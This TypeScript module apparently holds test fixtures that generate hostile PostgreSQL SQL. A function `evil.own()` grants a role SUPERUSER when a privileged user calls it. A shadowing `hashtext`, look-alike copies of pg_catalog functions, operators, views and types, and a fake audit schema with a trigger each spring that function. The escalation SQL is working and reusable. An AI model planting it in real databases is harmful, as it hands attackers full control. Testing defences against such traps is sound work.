/** SQL of a role: `evil.own()`, which makes whoever calls it give the role all rights, if it has them. */
export function evilFunction(role: string): string {
  return `
CREATE SCHEMA evil;
-- A sequence keeps what a transaction that failed took back.
CREATE SEQUENCE evil.called;
CREATE FUNCTION evil.own() RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $own$ BEGIN
  IF current_user <> ${literal(role)} THEN
    PERFORM nextval('evil.called');
    EXECUTE ${literal(`ALTER ROLE "${role}" SUPERUSER`)};
  END IF;
  RETURN true;
EXCEPTION WHEN insufficient_privilege THEN
  RETURN true;
END $own$;
CREATE FUNCTION public.hashtext(pg_catalog.varchar) RETURNS pg_catalog.int4 LANGUAGE sql AS 'SELECT evil.own()::pg_catalog.int4';
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
ALTER DEFAULT PRIVILEGES GRANT ALL ON FUNCTIONS TO PUBLIC;
GRANT ALL ON SCHEMA evil, public TO PUBLIC;
`;
}

/**
 * SQL of a role, after {@link evilFunction}: in the schema `evil` a counterpart of all that SQL could name without saying
 * where it is, which first calls `evil.own()`: each function, operator and type of pg_catalog, and a view of each catalogue.
 */
export const EVIL_COUNTERPARTS = `
DO $plant$
DECLARE
  f record;
BEGIN
  FOR f IN
    SELECT proname, pg_get_function_identity_arguments(p.oid) AS arguments, pronargs, format_type(prorettype, NULL) AS result
    FROM pg_proc AS p WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND NOT proretset
      AND provariadic = 0 AND proargmodes IS NULL AND pronargs <= 4
  LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql IMMUTABLE AS %L', f.proname, f.arguments, f.result,
        format('BEGIN PERFORM evil.own(); RETURN pg_catalog.%I(%s); END', f.proname,
          (SELECT string_agg('$' || n, ', ') FROM generate_series(1, f.pronargs) AS n)));
    EXCEPTION WHEN others THEN
      NULL; -- of internal arguments
    END;
  END LOOP;
  FOR f IN
    SELECT oprname, format_type(oprleft, NULL) AS l, format_type(oprright, NULL) AS r, proname
    FROM pg_operator JOIN pg_proc AS p ON p.oid = oprcode WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprleft <> 0
  LOOP
    BEGIN
      EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.%I)', f.oprname, f.l, f.r, f.proname);
    EXCEPTION WHEN others THEN
      NULL;
    END;
  END LOOP;
  FOR f IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
    BEGIN
      EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%I WHERE evil.own()', f.relname, f.relname);
    EXCEPTION WHEN others THEN
      NULL;
    END;
  END LOOP;
  FOR f IN SELECT unnest(ARRAY['text', 'jsonb', 'name', 'bytea', 'oid', 'timestamptz', 'int8', 'int4']) AS typname LOOP
    EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.own())', f.typname, f.typname);
  END LOOP;
END $plant$;
CREATE FUNCTION evil.step(pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE plpgsql AS 'BEGIN PERFORM evil.own(); RETURN $1 + 1; END';
CREATE AGGREGATE evil.count(*) (SFUNC = evil.step, STYPE = pg_catalog.int8, INITCOND = '0');
`;

/** A record of access that the role made itself, after {@link evilFunction}. */
export const PLANTED_RECORDS: Readonly<Record<string, string>> = {
  // To read it calls `evil.own()`.
  views: `
CREATE SCHEMA audit;
CREATE VIEW audit.access_record AS SELECT 1::bigint AS seq, now() AS recorded_at, 'x'::text AS written_by,
  '{}'::text AS body, ''::bytea AS previous, ''::bytea AS hash, 'ACCESS'::text AS kind WHERE evil.own();
CREATE VIEW audit.head AS SELECT true AS only_row, 0::bigint AS seq, now() AS recorded_at, ''::bytea AS hash WHERE evil.own();
`,
  // To install over it calls it.
  tables: `
CREATE SCHEMA audit;
CREATE TABLE audit.access_record (seq bigint, recorded_at timestamptz, written_by text, body text, previous bytea, hash bytea,
  kind text, recorder text, request_id text, person text, role text, organisation text, partnership text, purpose text,
  alert text, outcome text, children text[]);
CREATE TABLE audit.head (only_row boolean DEFAULT true, seq bigint, recorded_at timestamptz, hash bytea);
CREATE FUNCTION audit.caught() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM evil.own(); RETURN NEW; END';
CREATE TRIGGER caught BEFORE INSERT ON audit.head FOR EACH ROW EXECUTE FUNCTION audit.caught();
`,
};

function literal(text: string): string {
  return `'${text.replaceAll("'", "''")}'`;
}
